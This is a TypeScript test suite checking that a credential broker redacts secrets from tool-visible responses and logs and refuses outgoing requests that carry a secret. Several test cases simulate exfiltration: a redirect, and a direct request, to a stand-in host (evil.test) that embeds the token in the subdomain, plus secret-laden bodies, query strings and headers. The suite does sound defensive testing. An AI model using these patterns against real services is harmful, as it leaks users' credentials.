import { expect, test } from "vitest";
import { FORMED_SECRET, SECRET_FORMS } from "../../support/secret-forms.ts";
import { ask, credential, everywhere, textOf, withServer } from "../../support/services/brokerage.ts";

const FORMS = Object.entries(SECRET_FORMS);

test.each(FORMS)("a response that echoes the secret %s has it replaced", async (_, form) => {
  const { opened, url } = await withServer((request, response) =>
    response.end(`before ${form(FORMED_SECRET)} after ${request.method}`),
  );
  await opened.vault.secrets.set("token", FORMED_SECRET);
  const text = textOf(await ask(opened.open(everywhere("api.test")), url));
  expect(text).toContain("[secret]");
  expect(text).toMatch(/^before .* after GET$/);
  expect(text).not.toContain(form(FORMED_SECRET));
});

test("an echo of all headers and the URL shows the tool nothing, wherever the secret was put", async () => {
  for (const location of [
    { type: "bearer" },
    { type: "basic", username: "me" },
    { type: "query_param", name: "key" },
    { type: "url_path", placeholder: "KEY" },
  ]) {
    const { server, opened, url } = await withServer(({ path, headers }, response) =>
      response.end(JSON.stringify({ path, headers })),
    );
    const value = "p@ss/word:with+=&?#\"'<>";
    await opened.vault.secrets.set("token", value);
    const text = textOf(await ask(opened.open(credential(location)), `${url}/a/{KEY}`));
    expect(JSON.stringify(server.requests)).not.toBe("[]");
    expect(text).toContain("[secret]");
    for (const form of Object.values(SECRET_FORMS)) expect(text).not.toContain(form(value));
  }
});

test.each(FORMS)("a request that carries a secret out %s is refused", async (_, form) => {
  const { server, opened, url } = await withServer();
  await opened.vault.secrets.set("token", FORMED_SECRET);
  const carried = form(FORMED_SECRET);
  const call = opened.open(everywhere("api.test"));
  const replies = [
    await ask(call, url, { method: "POST", body: `x=${carried}` }),
    await ask(call, `${url}/?x=${encodeURIComponent(carried)}`),
    await ask(call, url, { headersJson: JSON.stringify({ "X-A": carried }) }),
  ];
  expect(replies.map(({ ok }) => ok)).toEqual([false, false, false]);
  expect(server.requests).toHaveLength(0);
});

test("a secret spelled out in percent signs or \\u escapes is found too", async () => {
  const { opened, url } = await withServer();
  await opened.vault.secrets.set("token", "plain-token-1");
  const spelled = (prefix: string, width: number) =>
    [..."plain-token-1"]
      .map((char) => prefix + char.charCodeAt(0).toString(16).padStart(width, "0"))
      .join("");
  const call = opened.open(everywhere("api.test"));
  for (const body of [spelled("%", 2), spelled("%25", 2), spelled("\\u", 4)]) {
    expect(textOf(await ask(call, url, { method: "POST", body }))).toContain("carries the value of a secret");
  }
});

test("no reply, record, error or log line holds the secret, whatever the tool and the server do", async () => {
  const value = "Planted-Value-0123456789";
  const { opened, url } = await withServer((request, response) => {
    if (request.path.startsWith("/redirect")) {
      response
        .writeHead(302, { location: `https://${request.headers.authorization?.slice(7)}.evil.test/` })
        .end();
    } else if (request.path.startsWith("/break")) {
      response.socket?.end(
        `HTTP/1.1 200 OK\r\nX: ${request.headers.authorization}\r\nBroken${value}\r\n\r\n`,
      );
    } else response.end(request.headers.authorization);
  });
  await opened.vault.secrets.set("token", value);
  const call = opened.open(credential({ type: "bearer" }));
  const replies = [
    await ask(call, `${url}/echo`),
    await ask(call, `${url}/redirect`),
    await ask(call, `${url}/break`),
    await ask(call, `https://${value}.evil.test/`),
    await ask(call, `${url}/${value}`),
    await ask(call, value),
    await ask(call, url, { method: value }),
    await ask(call, url, { headersJson: JSON.stringify({ [value]: "a\nb" }) }),
  ];
  const seen = JSON.stringify([replies.map(textOf), call.traffic, opened.logged]).toLowerCase();
  expect(seen).not.toContain(value.toLowerCase());
});

test("another tool's secret is replaced as well", async () => {
  const { opened, url } = await withServer((_, response) =>
    response.end("the value other-tools-secret leaked"),
  );
  await opened.vault.secrets.set("others", "other-tools-secret");
  expect(textOf(await ask(opened.open(everywhere("api.test")), url))).toBe("the value [secret] leaked");
});
